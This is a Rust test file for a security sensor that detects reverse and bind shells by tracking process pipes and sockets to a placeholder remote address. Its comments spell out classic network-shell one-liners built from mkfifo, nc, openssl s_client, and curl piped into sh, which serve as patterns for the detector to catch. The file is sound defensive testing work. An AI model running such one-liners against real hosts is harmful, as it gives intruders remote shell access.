//! Shells over the network, put together in many ways, and programs that only look like it.

use super::super::play::{Play, Start, accepted, record};
use super::*;
use sensor_common::record::network::NetRecord;

const AWAY: &str = "198.51.100.7:4444";

fn play_of(main: &str) -> Play {
    Play::of(Box::new(Shell::new(Bounds::default())), main)
}

fn is_found(play: &mut Play, words: &str) {
    let told: Vec<_> = play.found.iter().map(|found| (found.severity, found.summary.clone())).collect();
    assert!(
        matches!(told.as_slice(), [(Severity::Critical, summary)] if summary.starts_with(words)),
        "{words}: {told:#?}"
    );
    play.found.clear();
}

/// Streams become a connection.
fn take(play: &mut Play, pid: u32, descriptors: &[u32], record: NetRecord) {
    for descriptor in descriptors {
        play.socket(Class::NetStdio, pid, NetRecord { descriptor: *descriptor, ..record });
    }
}

fn start<'a>(
    pid: u32,
    parent: u32,
    exe: &'a str,
    args: &'a [&'a str],
    stdio: [(&'a str, u64); 3],
) -> Start<'a> {
    Start { pid, parent, exe, args, stdio, ..Start::default() }
}

const SOCKETS: [(&str, u64); 3] = [("socket", 5), ("socket", 5), ("socket", 5)];

#[test]
fn a_connection_that_is_there_before_the_shell() {
    let mut play = play_of("/app/server");
    play.fork(11, 10, 0);
    take(&mut play, 11, &[0, 1, 2], record(AWAY));
    play.start(start(11, 0, "/bin/sh", &["sh", "-c", "sh -i"], SOCKETS));
    is_found(
        &mut play,
        "Reverse shell: somebody at the other end of a connection that was made to 198.51.100.7 port 4444",
    );
    let mut bind = play_of("/app/server");
    bind.fork(11, 10, 0);
    take(&mut bind, 11, &[0, 1], accepted(AWAY));
    bind.start(start(11, 0, "/bin/busybox", &["busybox", "sh", "-i"], SOCKETS));
    is_found(&mut bind, "Bind shell");
}

#[test]
fn a_shell_that_takes_one() {
    let mut play = play_of("/app/server");
    play.run(11, 10, "/bin/bash", "bash");
    take(&mut play, 11, &[0, 1], record(AWAY));
    is_found(&mut play, "Reverse shell");
}

#[test]
fn a_terminal_behind_it() {
    let mut play = play_of("/app/server");
    play.run(11, 10, "/usr/bin/python3.12", "python3 /tmp/x.py");
    take(&mut play, 11, &[0, 1, 2], record(AWAY));
    let tty = [("tty", 3), ("tty", 3), ("tty", 3)];
    play.start(Start { terminal: true, ..start(12, 11, "/bin/bash", &["bash"], tty) });
    is_found(&mut play, "Reverse shell");
}

#[test]
fn pipes_and_a_network_tool() {
    // mkfifo f; cat f | sh -i 2>&1 | nc A P > f
    let mut play = play_of("/app/server");
    play.run(11, 10, "/bin/sh", "sh -c script");
    play.start(start(12, 11, "/bin/cat", &["cat", "f"], [("null", 1), ("pipe", 21), ("null", 1)]));
    play.start(start(13, 11, "/bin/sh", &["sh", "-i"], [("pipe", 21), ("pipe", 22), ("pipe", 22)]));
    play.start(start(14, 11, "/bin/nc", &["nc"], [("pipe", 22), ("pipe", 23), ("null", 1)]));
    play.connect(14, AWAY, true);
    is_found(&mut play, "Reverse shell");
    // sh -i < f 2>&1 | openssl s_client > f, the shell last
    let mut play = play_of("/app/server");
    play.start(start(14, 10, "/opt/relay", &["relay"], [("pipe", 32), ("pipe", 31), ("null", 1)]));
    play.connect(14, AWAY, true);
    play.start(start(13, 10, "/bin/dash", &["sh"], [("pipe", 31), ("pipe", 32), ("pipe", 32)]));
    is_found(&mut play, "Reverse shell");
    // nc -l < f | sh > f
    let mut play = play_of("/app/server");
    play.start(start(14, 10, "/bin/nc", &["nc", "-l"], [("pipe", 42), ("pipe", 41), ("null", 1)]));
    play.start(start(13, 10, "/bin/sh", &["sh"], [("pipe", 41), ("pipe", 42), ("null", 1)]));
    play.socket(Class::NetListen, 14, NetRecord { local: record("10.1.1.1:4444").remote, ..record(AWAY) });
    is_found(&mut play, "Bind shell");
}

#[test]
fn a_shell_by_what_it_does() {
    let mut play = play_of("/app/server");
    play.fork(11, 10, 0);
    take(&mut play, 11, &[0, 1, 2], record(AWAY));
    play.start(start(11, 0, "/opt/worker", &["worker"], SOCKETS));
    assert!(play.found.is_empty());
    play.start(start(12, 11, "/usr/bin/id", &[], SOCKETS));
    play.start(start(13, 11, "/bin/ls", &[], SOCKETS));
    is_found(&mut play, "Reverse shell");
    // A script that runs what it is told.
    let mut play = play_of("/app/server");
    play.run(11, 10, "/usr/bin/perl", "perl -e x");
    play.connect(11, AWAY, true);
    for (pid, line) in [(12, "sh -c id"), (13, "sh -c ls"), (14, "sh -c whoami")] {
        play.start(start(
            pid,
            11,
            "/bin/sh",
            &line.splitn(3, ' ').collect::<Vec<_>>(),
            [("null", 1), ("pipe", 8), ("pipe", 8)],
        ));
    }
    is_found(&mut play, "Reverse shell");
}

#[test]
fn those_who_give_shells_or_sockets_for_a_living() {
    let mut play = play_of("/usr/sbin/sshd");
    play.run(11, 10, "/usr/lib/ssh/sshd-session", "sshd-session");
    take(&mut play, 11, &[0, 1], accepted(AWAY));
    let tty = [("tty", 3), ("tty", 3), ("tty", 3)];
    play.start(start(12, 11, "/bin/bash", &["-bash"], tty));
    play.is_quiet();
    // inetd, and a server of scripts that passes its connection on.
    let mut play = play_of("/usr/sbin/httpd");
    play.fork(11, 10, 0);
    take(&mut play, 11, &[0, 1], accepted("10.1.0.3:40000"));
    play.start(start(11, 0, "/bin/sh", &["sh", "/srv/cgi/status.sh"], SOCKETS));
    play.start(start(12, 11, "/bin/date", &[], SOCKETS));
    play.start(start(13, 11, "/bin/df", &[], SOCKETS));
    play.is_quiet();
    let mut play = play_of("/usr/sbin/inetd");
    play.fork(11, 10, 0);
    take(&mut play, 11, &[0, 1, 2], accepted(AWAY));
    play.start(start(11, 0, "/bin/sh", &["sh"], SOCKETS));
    play.is_quiet();
    // A child that works on a socket; checks of a port.
    let mut play = play_of("/usr/bin/python3.12");
    play.fork(11, 10, 0);
    take(&mut play, 11, &[0, 1], record("10.1.0.3:5000"));
    play.start(start(11, 0, "/usr/bin/worker", &[], SOCKETS));
    play.run(12, 10, "/bin/bash", "bash -c wait");
    take(&mut play, 12, &[1], record("10.1.0.3:5432"));
    take(&mut play, 12, &[0], record("10.1.0.4:5432"));
    play.is_quiet();
}

#[test]
fn exec_into_a_container_and_scripts_in_pipes() {
    let mut play = play_of("/app/server");
    let pipes = [("pipe", 51), ("pipe", 52), ("pipe", 53)];
    play.start(Start { vpid: 40, ..start(11, 2, "/bin/sh", &["sh"], pipes) });
    play.start(start(12, 11, "/usr/bin/curl", &["curl"], [("pipe", 51), ("pipe", 52), ("null", 1)]));
    play.connect(12, AWAY, true);
    // curl … | sh, sh script | nc log 514
    play.start(start(13, 10, "/usr/bin/curl", &["curl"], [("null", 1), ("pipe", 61), ("null", 1)]));
    play.start(start(14, 10, "/bin/sh", &["sh"], [("pipe", 61), ("null", 1), ("null", 1)]));
    play.connect(13, AWAY, true);
    play.start(start(15, 10, "/bin/sh", &["sh", "/srv/log.sh"], [("pipe", 71), ("pipe", 72), ("null", 1)]));
    play.start(start(16, 10, "/bin/nc", &["nc"], [("pipe", 72), ("null", 1), ("null", 1)]));
    play.connect(16, "10.1.0.9:514", true);
    play.is_quiet();
}

#[test]
fn memory_is_bounded() {
    let mut play = Play::of(Box::new(Shell::new(Bounds { entries_max: 64 })), "/app/server");
    for pid in 100..3_000 {
        let stdio = [("pipe", u64::from(pid)), ("pipe", u64::from(pid) + 1), ("null", 0)];
        play.start(start(pid, 10, "/bin/sh", &["sh"], stdio));
        play.connect(pid, AWAY, true);
    }
    let table = play.behaviour.table();
    assert!(table.entries <= 192 && table.most == 192, "{table:?}");
}
